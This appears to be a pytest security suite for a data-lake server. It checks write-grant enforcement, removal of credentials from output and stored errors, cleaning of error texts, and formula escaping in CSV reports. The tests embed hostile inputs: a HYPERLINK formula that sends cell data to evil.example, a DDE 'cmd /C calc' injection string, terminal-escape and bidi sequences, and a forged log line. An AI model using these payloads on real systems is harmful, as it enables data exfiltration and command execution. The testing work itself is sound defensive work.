"""Attempts to write with a read grant, to obtain credentials from output, to leak data through error texts, and to inject
spreadsheet formulas through user names. Each is refused, or reveals nothing."""

from __future__ import annotations

import concurrent.futures
import contextlib
import csv
import datetime as dt
import http.server
import io
import json
import re
import socket
import socketserver
import sqlite3
import threading
import time
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import adbc_driver_manager
import pandas as pd
import pyarrow as pa
import pyarrow.flight as flight
import pytest

from harness import FAILURE, OK, USAGE, Finished, run
from server import BEARER, PASSWORD, Plant, Raw, any_of, connect, eventually, text_field
from test_ingest import raw_files, readings, send, start_ingest

pytestmark = pytest.mark.local_only
REFUSALS = (flight.FlightError, pa.ArrowException, adbc_driver_manager.Error)
START = dt.datetime(2024, 6, 1, tzinfo=dt.UTC)
FORMULA = "=HYPERLINK(\"http://evil.example?x=\"&A1,\"more\")"


def create_ingest_key(plant: Plant, tenant: str, user: bool = True, key: bool = True) -> str:
    """Returns a key of a new user, with the permissions that an admin of the organisation could give."""
    email = f"g{time.monotonic_ns()}@{tenant.lower()}.example"
    allow = ["--ingest"] if user or key else []
    plant.run("user", "create", email, "--org", tenant, "--role", "service", *allow).expect(OK)
    created = (
        plant.run("key", "create", "--user", email, "--name", "k", "--json", *(["--ingest"] if key else [])).expect(OK).json
    )
    if allow and not user:
        plant.run("user", "change", email, "--ingest", "off").expect(OK)
    return created["key"]


@pytest.fixture(scope="module")
def plant(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Plant]:
    """A server. North may write to its own assets and read one of South's. South may only read. Everything may read all assets
    and write to those of one type."""
    plant = Plant(tmp_path_factory.mktemp("grants")).build()
    measured = set(plant.lake.table("data_d")["asset_id"])
    plant.own = {name: sorted(tenant.assets & measured) for name, tenant in plant.tenants.items()}
    plant.shared = plant.own["South"][0]
    plant.run("org", "revoke", "South", *plant.tenants["South"].grants, "--write").expect(OK)
    plant.run("org", "grant", "North", "--asset", plant.shared).expect(OK)
    plant.run("org", "grant", "Everything", "--type", "level sensor", "--write").expect(OK)
    plant.keys = {
        "North": create_ingest_key(plant, "North"),
        "North, user permission only": create_ingest_key(plant, "North", key=False),
        "North, key permission only": create_ingest_key(plant, "North", user=False),
        "North, no permission": create_ingest_key(plant, "North", False, False),
        "South": create_ingest_key(plant, "South"),
        "Everything": create_ingest_key(plant, "Everything"),
        "Nobody": create_ingest_key(plant, "Nobody"),
    }
    plant.serve()
    yield plant
    assert plant.stop() == OK


def send_error(plant: Plant, key: str, assets: list[str], each: int = 2) -> str | None:
    """Sends readings and returns the error of the ingest, or None if it succeeds."""
    with connect(plant.uri, {BEARER: f"Bearer {key}"}) as connection:
        try:
            assert send(connection, readings(assets, each, START)) == each * len(assets)
        except adbc_driver_manager.Error as error:
            return str(error)
    return None


# ---- write grants


def test_ingest_without_write_grant_or_permission_is_refused(plant: Plant) -> None:
    own, shared, hidden = plant.own["North"][0], plant.shared, plant.own["South"][1]
    kinds = {asset["id"]: asset["type"] for asset in plant.assets()}
    [level, *_] = [asset for asset in plant.own["Everything"] if kinds[asset] == "level sensor"]
    read_only = "is granted to your organisation for reading only; ask the operator to grant writing"
    unknown = "does not exist or is not granted to your organisation"
    permission = "only users and keys with the ingest permission may send readings"
    none = "your organisation has no write grant: ask the operator to grant writing"
    cases = [
        ("North", [own], None),
        ("North", [shared], read_only),
        ("North", [hidden], unknown),
        ("North", [own, shared], f"row 3: the asset {shared} {read_only}"),
        ("North", [own, hidden], f"row 3: the asset {hidden} {unknown}"),
        ("North, user permission only", [own], permission),
        ("North, key permission only", [own], permission),
        ("North, no permission", [own], permission),
        ("South", [shared], none),
        ("South", [own], none),
        ("Everything", [level], None),
        ("Everything", [own], read_only),
        ("Everything", ["00000000-0000-4000-8000-000000000000"], read_only),
        ("Nobody", [own], none),
    ]
    before = raw_files(plant)
    for key, assets, message in cases:
        error = send_error(plant, plant.keys[key], assets)
        assert (error is None) if message is None else (error is not None and message in error), (key, assets, error)
        now = raw_files(plant)
        assert len(now) == len(before) + (message is None), (key, assets)
        before = now


def test_admin_cannot_extend_grants_of_operator(plant: Plant) -> None:
    """A former vulnerability: an organisation with a read grant gave itself `may_ingest` and overwrote the owner's averages."""
    before = raw_files(plant)
    admin = ["--server", plant.uri, "--as", plant.tenants["South"].email("admin")]
    secret = PASSWORD + "\n"
    plant.run("user", "create", "mine@south.example", "--role", "service", "--ingest", *admin, stdin=secret)
    created = json.loads(
        plant.run("key", "create", "--user", "mine@south.example", "--name", "k", "--ingest", "--json", *admin, stdin=secret)
    )
    assert "has no write grant" in send_error(plant, created["key"], [plant.shared])
    # No statement, action or command of the server grants writing either.
    requests = [
        {"order": "grant", "organisation": "South", "kind": "all", "value": "", "access": "write"},
        {
            "order": "change_user",
            "email": "mine@south.example",
            "role": None,
            "name": None,
            "may_ingest": True,
            "write_grants": ["all"],
        },
    ]
    token = json.loads(plant.run("token", "create", plant.tenants["South"].email("admin"), "--json", stdin=secret))["token"]
    client = Raw(plant.uri, token)
    for request in requests:
        with pytest.raises(REFUSALS):
            client.action("plantlake.Administer", json.dumps(request).encode())
    with pytest.raises(REFUSALS):
        client.query("UPDATE account.grants SET may_write = true")
    assert "has no write grant" in send_error(plant, created["key"], [plant.shared])
    assert raw_files(plant) == before
    shown = plant.run("org", "show", "South", "--json").expect(OK).json
    assert shown["assets_writable"] == 0 and {grant["access"] for grant in shown["grants"]} == {"read"}


def test_write_grant_allows_corrections(plant: Plant) -> None:
    """A write grant includes corrections: a reading with the same asset and time replaces the one in the raw folder."""
    asset = plant.own["North"][1]
    question = f"SELECT timestamp, value FROM raw_readings WHERE id = '{asset}' AND value IS NOT NULL ORDER BY 1 LIMIT 1"
    at = plant.ask(question)["timestamp"][0].to_pydatetime()
    minute = pd.Timestamp(at).floor("min").isoformat()
    average = f"SELECT min FROM data_min WHERE asset_id = '{asset}' AND timestamp = '{minute}'"
    [before] = plant.ask(average)["min"]
    with connect(plant.uri, {BEARER: f"Bearer {plant.keys['North']}"}) as connection:
        values = {"id": [asset], "timestamp": pa.array([at], pa.timestamp("us", "UTC")), "value": [-3933.24]}
        assert send(connection, pa.table(values)) == 1
    plant.lake.resample().expect(OK)
    eventually(lambda: list(plant.ask(average)["min"]) == [-3933.24])
    assert before > -3933.24


@pytest.mark.parametrize("revocation", ["writing revoked", "grant revoked", "narrowed", "key expired", "permission removed"])
def test_ingest_after_revocation_ends(plant: Plant, revocation: str) -> None:
    asset, tenant = plant.own["North"][0], "North"
    email = f"m{time.monotonic_ns()}@north.example"
    plant.run("user", "create", email, "--org", tenant, "--role", "service", "--ingest").expect(OK)
    created = plant.run("key", "create", "--user", email, "--name", "k", "--ingest", "--json").expect(OK).json
    if revocation == "key expired":
        end = dt.datetime.now(dt.UTC) + dt.timedelta(seconds=2)
        with closing(sqlite3.connect(plant.lake.state / "organisation.db")) as connection:
            connection.execute(
                "UPDATE api_keys SET expires_at = ? WHERE id = ?", (end.strftime("%Y-%m-%dT%H:%M:%S.%fZ"), created["id"])
            )
            connection.commit()
    rule, narrower = ["--type", "temperature sensor"], ["--asset", asset]
    before = raw_files(plant)
    _, writer, reader = start_ingest(plant.uri, created["key"], asset)
    done = threading.Event()
    errors: list[Exception] = []

    def send_until_done() -> None:
        try:
            while not done.is_set():
                writer.write_table(readings([asset], 10))
                time.sleep(0.2)
            writer.close()
        except (*REFUSALS, OSError) as error:
            errors.append(error)

    thread = threading.Thread(target=send_until_done)
    thread.start()
    try:
        match revocation:
            case "writing revoked":
                plant.run("org", "revoke", tenant, *rule, "--write").expect(OK)
            case "grant revoked":
                plant.run("org", "revoke", tenant, *rule).expect(OK)
            case "narrowed":
                plant.run("org", "grant", tenant, *narrower, "--write").expect(OK)
                plant.run("org", "revoke", tenant, *rule, "--write").expect(OK)
            case "permission removed":
                plant.run("user", "change", email, "--ingest", "off").expect(OK)
        thread.join(8)
        done.set()
        thread.join()
        with pytest.raises((*REFUSALS, OSError)):
            reader.read()
            writer.close()
            raise errors[0]
        assert raw_files(plant) == before
        if revocation == "narrowed":
            # The remaining part of the grant still works.
            assert eventually(lambda: send_error(plant, created["key"], [asset]) is None) < 5
            assert "for reading only" in send_error(plant, created["key"], [plant.own["North"][1]])
            plant.run("org", "revoke", tenant, *narrower).expect(OK)
    finally:
        plant.run("org", "grant", tenant, *rule, "--write").expect(OK)
    eventually(lambda: send_error(plant, plant.keys["North"], [asset]) is None)


def test_shared_write_grant_without_flag_is_refused(plant: Plant) -> None:
    rule = ["--type", "temperature sensor"]
    refused = plant.run("org", "grant", "South", *rule, "--write").expect(FAILURE)
    assert "others may write to the same assets: \"North\" (" in refused.err and "--share-writing" in refused.err
    for wider in (["--all"], ["--asset", plant.own["North"][0]]):
        plant.run("org", "grant", "South", *wider, "--write").expect(FAILURE)
    assert plant.run("org", "show", "South", "--json").expect(OK).json["assets_writable"] == 0
    # Reading, or writing to other assets, needs no permission to share.
    plant.run("org", "grant", "South", *rule).expect(OK)
    plant.run("org", "grant", "South", "--type", "pressure sensor", "--write").expect(OK)
    plant.run("org", "grant", "South", *rule, "--write", "--share-writing").expect(OK)
    shown = plant.run("org", "show", "South").expect(OK)
    assert "\"North\" (" in shown.err and "with writing" in shown.text
    plant.run("org", "grant", "South", *rule, "--share-writing").expect(USAGE)
    # Revoking the write grant leaves the read grant.
    plant.run("org", "revoke", "South", *rule, "--type", "pressure sensor", "--write").expect(OK)
    shown = plant.run("org", "show", "South", "--json").expect(OK).json
    assert shown["assets_writable"] == 0 and shown["assets_visible"] > 0
    assert "has no write grant" in plant.run("org", "revoke", "South", *rule, "--write").expect(FAILURE).err
    plant.run("org", "revoke", "South", *rule).expect(OK)
    actions = [
        (entry["details"].get("access"), entry["action"])
        for entry in plant.run("audit", "--org", "South", "--last", "6", "--json").expect(OK).json
    ]
    assert ("write", "org.grant") in actions and ("write", "org.revoke") in actions


def test_organisation_with_ingest_permission_and_no_write_grant_is_reported(plant: Plant) -> None:
    message = "\"South\" has users who may send readings, but no write grant"
    assert message in plant.run("migrate").expect(OK).err
    assert any("South" in line and "no write grant" in line for line in plant.log)
    finding = next(f for f in plant.run("doctor", "--json").json["findings"] if f["what"] == "organisations")
    assert finding["standing"] == "note" and "South" in finding["found"] and "--write" in finding["todo"]
    assert "North" not in finding["found"]


# ---- credentials in output

SECRET = "Tr0ub4dorHush"


@pytest.fixture(scope="module")
def refusing_store() -> Iterator[str]:
    """An object store that refuses every request at once, and repeats its path in the error."""

    class Refusing(http.server.BaseHTTPRequestHandler):
        def answer(self) -> None:
            self.rfile.read(int(self.headers.get("content-length") or 0))
            body = f"<Error><Code>AccessDenied</Code><Message>{self.path}</Message></Error>".encode()
            self.send_response(403)
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_GET = do_PUT = do_HEAD = do_POST = do_DELETE = answer

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Refusing)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"127.0.0.1:{server.server_port}"
    server.shutdown()


@pytest.fixture(scope="module")
def refusing_database() -> Iterator[str]:
    """A Postgres server that refuses every connection at once."""

    class Refusing(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            with contextlib.suppress(OSError):
                while True:
                    size = int.from_bytes(self.request.recv(4, socket.MSG_WAITALL) or b"\0\0\0\4")
                    startup = self.request.recv(size - 4, socket.MSG_WAITALL)
                    if startup[:4] == (80877103).to_bytes(4):  # an SSLRequest
                        self.request.sendall(b"N")
                        continue
                    error = b"SFATAL\0VFATAL\0C28P01\0Mno entry\0\0"
                    self.request.sendall(b"E" + (len(error) + 4).to_bytes(4) + error)
                    return

    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Refusing)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def credentials(refusing_store: str, refusing_database: str) -> dict[str, dict[str, str]]:
    """Returns settings that contain a secret, by a description of each."""
    s3 = {"STORAGE_AWS_ENDPOINT": f"http://{refusing_store}", "STORAGE_AWS_REGION": "x", "STORAGE_AWS_ALLOW_HTTP": "true",
          "STORAGE_AWS_ACCESS_KEY_ID": "id", "STORAGE_AWS_SECRET_ACCESS_KEY": SECRET}
    unreachable = "127.0.0.1:1"
    return {
        "lake": s3 | {"LAKE": f"s3://me:{SECRET}@bucket/lake"},
        "lake, a token": s3 | {"LAKE": f"s3://{SECRET}@bucket/lake"},
        "lake, a parameter": s3 | {"LAKE": f"s3://bucket/lake?secret={SECRET}&a={SECRET}#{SECRET}"},
        "lake, an unknown scheme": {"LAKE": f"gs://me:{SECRET}@bucket/lake"},
        "lake, not a URL": {"LAKE": f"s3://me:{SECRET}@[bucket/lake"},
        "lake, unescaped": {"LAKE": f"s3://me:{SECRET}/x@bucket/lake"},
        "raw": {"RAW": f"s3://me:{SECRET}@bucket/raw?x={SECRET}"} | s3,
        "endpoint": s3 | {"LAKE": "s3://bucket/lake", "STORAGE_AWS_ENDPOINT": f"http://me:{SECRET}@{refusing_store}"},
        "proxy": s3 | {"LAKE": "s3://bucket/lake", "STORAGE_AWS_PROXY_URL": f"http://me:{SECRET}@{refusing_store}"},
        "organisation": {
            "ORGANISATION_URL": f"postgres://me:{SECRET}@{refusing_database}/db?password={SECRET}&sslpassword={SECRET}"
        },
        "organisation, unescaped": {"ORGANISATION_URL": f"postgres://me:a/{SECRET}#b@{refusing_database}/db"},
        "organisation, no scheme": {"ORGANISATION_URL": f"me:{SECRET}@{refusing_database}/db"},
        "organisation, another": {"ORGANISATION_URL": f"mysql://me:{SECRET}@{refusing_database}/db"},
        "organisation, a wrong parameter": {
            "ORGANISATION_URL": f"postgres://me:{SECRET}@{refusing_database}/db?sslmode={SECRET[:3]}"
        },
        "mirror": {"MIRROR_URL": f"postgres://me:{SECRET}@{refusing_database}/db?password={SECRET}"},
        "qdrant": {"QDRANT_URL": f"http://me:{SECRET}@{unreachable}"},
        "qdrant, a parameter": {"QDRANT_URL": f"http://{unreachable}?key={SECRET}"},
        "qdrant, a key": {"QDRANT_URL": f"https://{unreachable}", "QDRANT_API_KEY": SECRET},
        "webhook": {"SCHEDULE_WEBHOOK_URL": f"http://{unreachable}/hooks/{SECRET}"},
        "webhook, not a URL": {"SCHEDULE_WEBHOOK_URL": f"http//{unreachable}/hooks/{SECRET}"},
        "issuer": {"AUTH_ISSUER": f"https://me:{SECRET}@issuer.example"},
        "storage token": s3 | {"LAKE": "s3://bucket/lake", "STORAGE_AWS_SESSION_TOKEN": SECRET},
    }


COMMANDS = [
    ["config"],
    ["config", "--json"],
    ["doctor"],
    ["doctor", "--json"],
    ["status"],
    ["query", "SELECT 1"],
    ["org", "list"],
    ["migrate"],
    ["serve", "--listen", "127.0.0.1:0"],
    ["resample"],
    ["mirror"],
    ["run", "mirror"],
    ["jobs"],
]
# The commands that use each setting, without those that print all settings.
COMMANDS_OF_SETTING = {
    "lake": ["status", "query", "resample"],
    "raw": ["resample", "status"],
    "endpoint": ["status"],
    "proxy": ["status"],
    "storage token": ["status"],
    "organisation": ["org", "migrate", "serve", "jobs"],
    "mirror": ["mirror", "run"],
    "qdrant": [],
    "webhook": [],
    "issuer": [],
}


def test_command_output_contains_no_credentials_of_settings(
    refusing_store: str, refusing_database: str, tmp_path: Path
) -> None:
    (tmp_path / "catalog").mkdir()
    (tmp_path / "catalog" / "assets.json").write_text("[]")
    runs = []
    for name, values in credentials(refusing_store, refusing_database).items():
        settings = {f"PLANTLAKE_{key}": value for key, value in values.items()}
        folder = tmp_path / str(len(runs))
        folder.mkdir()
        defaults = {
            "PLANTLAKE_CATALOG": str(tmp_path / "catalog"),
            "PLANTLAKE_STATE": str(folder / "state"),
            "PLANTLAKE_LOG": "debug",
        }
        commands = COMMANDS_OF_SETTING[name.split(",")[0]]
        selected = [command for command in COMMANDS if command[0] in {"config", "doctor", *commands}]
        runs += [(name, command, defaults | settings, folder) for command in selected]

    def execute(one: tuple[str, list[str], dict[str, str], Path]) -> Finished:
        _, command, settings, folder = one
        return run(command, settings, folder)

    with concurrent.futures.ThreadPoolExecutor(4) as pool:
        finished = list(pool.map(execute, runs))
    failed = 0
    for (name, command, settings, _), finished_run in zip(runs, finished):
        text = finished_run.out.decode() + finished_run.err
        assert SECRET not in text and "dorHush" not in text, f"{name}: {command}\n{text}"
        assert text.strip(), f"{name}: {command}"
        failed += finished_run.code != OK
        if command[0] == "config" and finished_run.code == OK and name not in ("issuer",):
            assert "******" in text, f"{name}: {text}"
    assert failed > len(runs) / 4, "too few commands failed"


def test_error_of_failed_job_is_stored_without_credentials(refusing_database: str, tmp_path: Path) -> None:
    """The error of a job is stored in the history, shown by `jobs` and `status`, and sent to the webhook."""
    settings = {"PLANTLAKE_MIRROR_URL": f"postgres://me:{SECRET}@{refusing_database}/db", "PLANTLAKE_MIRROR_RETRY_FOR": "1s"}
    (tmp_path / "jobs").mkdir()
    (tmp_path / "jobs" / "mirror.toml").write_text('kind = "mirror"\nretries = 0\n')
    ended = run(["run", "mirror"], settings, tmp_path)
    assert ended.code != OK and SECRET not in ended.err
    with closing(sqlite3.connect(tmp_path / "lake" / ".state" / "organisation.db")) as connection:
        rows = connection.execute("SELECT error FROM job_runs").fetchall()
        assert rows and rows[0][0] and SECRET not in str(rows), rows
        # Older versions stored credentials in such an entry.
        connection.execute(f"UPDATE job_runs SET error = 'cannot reach postgres://me:{SECRET}@127.0.0.1:1/db'")
        connection.commit()
    history = run(["jobs", "history"], settings, tmp_path)
    assert "me:******@127.0.0.1" in history.text and SECRET not in history.text, str(history)


# ---- data in error texts


def texts_of_values(asset: str) -> dict[str, str]:
    """Returns statements whose errors quote a long value that contains data."""
    long = f"repeat(asset_id, 50)"
    scan = f"FROM data_h WHERE asset_id = '{asset}' LIMIT 5"
    return {
        "integer": f"SELECT CAST({long} AS BIGINT) {scan}",
        "double": f"SELECT CAST({long} AS DOUBLE) {scan}",
        "decimal": f"SELECT CAST({long} AS DECIMAL(20, 2)) {scan}",
        "boolean": f"SELECT CAST({long} AS BOOLEAN) {scan}",
        "date": f"SELECT CAST({long} AS DATE) {scan}",
        "time": f"SELECT CAST({long} AS TIME) {scan}",
        "timestamp": f"SELECT CAST({long} AS TIMESTAMP) {scan}",
        "interval": f"SELECT CAST({long} AS INTERVAL) {scan}",
        "to_timestamp": f"SELECT to_timestamp({long}) {scan}",
        "to_date": f"SELECT to_date({long}) {scan}",
        "arrow_cast": f"SELECT arrow_cast({long}, 'Int32') {scan}",
        "date_trunc": f"SELECT date_trunc({long}, timestamp) {scan}",
        "date_part": f"SELECT date_part({long}, timestamp) {scan}",
        "regular expression": f"SELECT regexp_like('a', concat('(', {long})) {scan}",
        "quotes inside": f"SELECT CAST(repeat(concat(asset_id, ''' to \"'), 50) AS BIGINT) {scan}",
        "all rows": "SELECT CAST(string_agg(asset_id, ',') AS BIGINT) FROM data_h",
        "names": "SELECT CAST(string_agg(name, ',') AS BIGINT) FROM assets",
        "decode": f"SELECT decode({long}, 'base64') {scan}",
        "json": f"SELECT spec_value({long}, 'a') {scan}",
    }


def test_error_with_long_value_quotes_start_and_length(plant: Plant) -> None:
    client, asset = plant.client("North"), plant.own["North"][0]
    shortened = 0
    for name, sql in texts_of_values(asset).items():
        try:
            client.query(sql)
            continue
        except REFUSALS as error:
            text = str(error)
        # The quoted part is limited to 64 characters, which is less than two ids.
        assert len(re.findall(re.escape(asset), text)) <= 2, f"{name}: {text}"
        assert len(text) < 1_500 and "\x1b" not in text, f"{name}: {text}"
        shortened += " characters)" in text
    assert shortened >= 5


def test_error_with_hostile_text_fits_into_header(plant: Plant) -> None:
    """gRPC sends the error percent-encoded in a header; clients accept 8 KiB of headers and fail above that."""
    client = plant.client("North")
    key = plant.keys["North"]
    texts = {
        "long": "x" * 100_000,
        "wide": "界" * 10_000,
        "marks": "%" * 50_000,
        "control": "\x1b[2J\x07\r\n\t" * 1_000,
        "bidi": "\u202e" * 2_000,
    }
    for name, text in texts.items():
        quoted = text.replace('"', "").replace("\x00", "")
        calls = {
            "table": lambda: client.query(f'SELECT * FROM "{quoted}"'),
            "column": lambda: client.query(f'SELECT "{quoted}" FROM data_h'),
            "literal": lambda: client.query(f"SELECT CAST('{quoted}' AS BIGINT)"),
            "target": lambda: send_to(plant, key, quoted),
            "user": lambda: Raw(plant.uri, plant.tenants["North"].key).action(
                "plantlake.Administer", json.dumps({"order": "user", "email": text}).encode()
            ),
            "option": lambda: client.query(f"SET TIME ZONE '{quoted}'"),
            "action": lambda: client.action(text.encode("ascii", "ignore").decode()[:5000] or "x"),
        }
        selected = calls if name in ("wide", "control") else ("table", "target")
        for call_name, call in calls.items():
            if call_name not in selected:
                continue
            with pytest.raises(REFUSALS) as caught:
                call()
            error = caught.value
            message = str(error)
            assert not isinstance(error, flight.FlightInternalError) and "INTERNAL" not in message.upper()[:40], (
                f"{name} {call_name}: {message[:300]}"
            )
            assert len(message) < 5_000, f"{name} {call_name}: {len(message)}"  # pyarrow repeats some texts
            assert not any(character in message for character in "\x1b\x07\u202e\r"), f"{name} {call_name}: {message!r:.300}"


def send_to(plant: Plant, key: str, table: str) -> None:
    client = flight.FlightClient(plant.uri)
    options = flight.FlightCallOptions(headers=[(b"authorization", f"Bearer {key}".encode())])
    command = any_of("CommandStatementIngest", text_field(2, table))
    sent = readings([plant.own["North"][0]], 1)
    writer, reader = client.do_put(flight.FlightDescriptor.for_command(command), sent.schema, options)
    with writer:
        writer.write_table(sent)
        writer.done_writing()
        reader.read()


def test_line_break_in_statement_creates_no_log_entry(plant: Plant) -> None:
    with pytest.raises(REFUSALS):
        plant.client("North").query("SELECT \"x\n2026-01-01T00:00:00Z ERROR forged: entry\" + interval '1 day' FROM data_h")
    time.sleep(0.3)
    assert not any(line.startswith("2026-01-01T00:00:00Z ERROR") for line in plant.log)


# ---- formulas in reports


def test_reports_with_formulas_as_names_are_escaped_and_keep_numbers(plant: Plant) -> None:
    names = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|x"]
    users = {}
    for at, name in enumerate(names):
        email = f"{'=+-='[at]}cmd|x!a{at}@formula.example"
        plant.run("org", "create", "--", name).expect(OK)
        plant.run("org", "grant", "--type", "site", "--", name).expect(OK)
        plant.run("user", "create", f"--org={name}", "--role", "service", "--", email).expect(OK)
        created = plant.run("key", "create", f"--user={email}", "--name", "k", "--json").expect(OK).json
        Raw(plant.uri, created["key"]).query("SELECT count(*) FROM assets")
        users[name] = email
    reports = [["usage", "report", "--by", "user", "--format", "csv"], ["usage", "report", "--format", "csv"],
               ["usage", "report", "--by", "endpoint", "--format", "csv"]]
    month = dt.datetime.now(dt.UTC).strftime("%Y-%m")
    reports.append(["usage", "invoice", month, "--format", "csv"])
    eventually(lambda: plant.run(*reports[1]).expect(OK).text.count("cmd") >= 2, 15)
    for report in reports:
        text = plant.run(*report).expect(OK).text
        rows = list(csv.reader(io.StringIO(text)))
        assert len({len(row) for row in rows}) == 1 and len(rows) > len(names), text
        for cell in (cell for row in rows for cell in row):
            if cell.lstrip().startswith(("=", "+", "-", "@")):
                assert re.fullmatch(r"[-+]?\d+(\.\d+)?", cell), f"{report}: {cell}"
            assert not cell.startswith(("\t", "\r"))
        for name in names:
            assert f"'{name}" in [row[0] for row in rows], text
        table = pd.read_csv(io.StringIO(text))
        amounts = [column for column in table if column in ("requests", "bytes_sent", "quantity", "price", "amount")]
        assert amounts and all(pd.api.types.is_numeric_dtype(table[column]) for column in amounts)
    assert all(f"'{email}" in plant.run(*reports[0]).text for email in users.values())
    # Query results are exact data, without escaping.
    exact = plant.run("query", "SELECT '=1+1' AS a, '-x' AS b", "--format", "csv").expect(OK).text
    assert exact == "a,b\n=1+1,-x\n", exact
